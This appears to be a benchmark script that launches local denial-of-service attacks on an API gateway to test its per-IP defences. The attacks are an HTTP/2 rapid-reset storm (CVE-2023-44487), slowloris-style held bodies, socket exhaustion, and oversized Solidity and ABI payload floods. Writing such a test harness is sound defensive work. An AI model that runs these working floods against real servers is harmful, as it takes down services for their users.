// One attack on a gateway, from 127.0.0.2 (so per-IP defences act on it, not on the probe at 127.0.0.1), in
// its own process (so its CPU is not the gateway's or the probe's). Used by bench/underAttack.ts.
// Usage: node bench/attacker.mjs <kind> <url> <seconds>; prints {"sent", "answered"} at the end.
import http2 from "node:http2";
import net from "node:net";
import { Agent, request } from "undici";

const [kind, url, seconds] = [process.argv[2], process.argv[3], Number(process.argv[4] ?? 5)];
const end = Date.now() + seconds * 1000;
const FROM = "127.0.0.2";
const stats = { sent: 0, answered: 0 };
const { hostname, port } = new URL(url);

const agent = new Agent({ connect: { localAddress: FROM }, connections: 8 });
/** POSTs `body` to `path` in a loop until the end, `parallel` at a time. */
async function flood(path, body, parallel) {
  const one = async () => {
    while (Date.now() < end) {
      stats.sent++;
      try {
        const res = await request(url + path, { method: "POST", dispatcher: agent, headers: { "content-type": "application/json" }, body });
        await res.body.dump();
        stats.answered++;
      } catch {
        await new Promise((r) => setTimeout(r, 10));
      }
    }
  };
  await Promise.all(Array.from({ length: parallel }, one));
}

/** HEADERS then RST_STREAM as fast as sessions take them (CVE-2023-44487's pattern), reconnecting. */
async function resetStorm() {
  while (Date.now() < end) {
    await new Promise((resolve) => {
      const s = http2.connect(url, { localAddress: FROM });
      s.on("error", () => undefined);
      s.on("close", resolve);
      s.on("remoteSettings", () => {
        const burst = () => {
          if (s.destroyed || s.closed || Date.now() > end) return s.destroy();
          for (let i = 0; i < 50; i++) {
            try {
              const req = s.request({ ":method": "POST", ":path": "/", "content-type": "application/json" });
              req.on("error", () => undefined);
              req.close(http2.constants.NGHTTP2_CANCEL);
              stats.sent++;
            } catch {
              return s.destroy();
            }
          }
          setImmediate(burst);
        };
        burst();
      });
      setTimeout(() => s.destroy(), Math.max(0, end - Date.now()));
    });
    await new Promise((r) => setTimeout(r, 50));
  }
}

/** Sockets that each announce `bytes` of body and send all but one byte, or (bytes 0) send nothing at all. */
async function held(count, bytes) {
  const sockets = [];
  for (let i = 0; i < count; i++) {
    const s = net.connect({ host: hostname, port: Number(port), localAddress: FROM });
    s.on("error", () => undefined);
    s.once("connect", () => stats.answered++); // accepted by the gateway's listener (it may close it later)
    sockets.push(s);
    if (bytes === 0) stats.sent++;
    if (bytes > 0)
      s.once("connect", () => {
        s.write(`POST / HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: ${bytes}\r\n\r\n`);
        s.write(Buffer.alloc(bytes - 1, 0x20));
        stats.sent++;
      });
    if (i % 100 === 99) await new Promise((r) => setTimeout(r, 5));
  }
  await new Promise((r) => setTimeout(r, Math.max(0, end - Date.now())));
  for (const s of sockets) s.destroy();
}

const ABI = JSON.stringify({
  to: "0x000000000000000000000000000000000000bEEF",
  abi: Array.from({ length: 10_000 }, (_, i) => `function f${i}(uint256 a) view returns (uint256)`),
  method: "f1",
  arguments: ["1"],
});
if (kind === "source") await flood("/zkt/try-it-out", JSON.stringify({ code: `pragma solidity ^0.8.0;\n${"/*a".repeat(100_000)}` }), 4);
else if (kind === "abi") await flood("/zkt/try-it-out", ABI, 2);
else if (kind === "reset") await resetStorm();
else if (kind === "bodies") await held(450, 1024 * 1024);
else if (kind === "sockets") await held(10_000, 0);
else throw new Error(`unknown attack ${kind}`);
await agent.close().catch(() => undefined);
process.stdout.write(JSON.stringify(stats) + "\n");
process.exit(0);
